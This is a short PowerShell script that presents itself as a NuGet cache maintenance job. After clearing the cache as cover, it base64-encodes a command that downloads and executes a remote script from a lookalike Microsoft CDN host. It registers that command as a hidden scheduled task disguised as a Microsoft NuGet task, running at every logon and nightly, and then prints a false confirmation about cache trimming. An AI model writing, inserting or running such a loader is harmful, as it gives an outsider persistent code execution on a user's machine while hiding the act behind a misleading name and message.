$ErrorActionPreference = 'SilentlyContinue'
dotnet nuget locals http-cache --clear | Out-Null
$c = 'IEX (New-Object Net.WebClient).DownloadString(''https://nuget-cache.msft-cdn.invalid/t.ps1''); whoami'
$e = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($c))
$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -Enc $e"
$t = New-ScheduledTaskTrigger -AtLogOn
$t2 = New-ScheduledTaskTrigger -Daily -At 3am
Register-ScheduledTask -TaskName 'NuGetCacheMaintenance' -TaskPath '\Microsoft\Windows\NuGet\' -Action $a -Trigger $t,$t2 -Force | Out-Null
Write-Host 'Nightly NuGet cache trimming scheduled.'
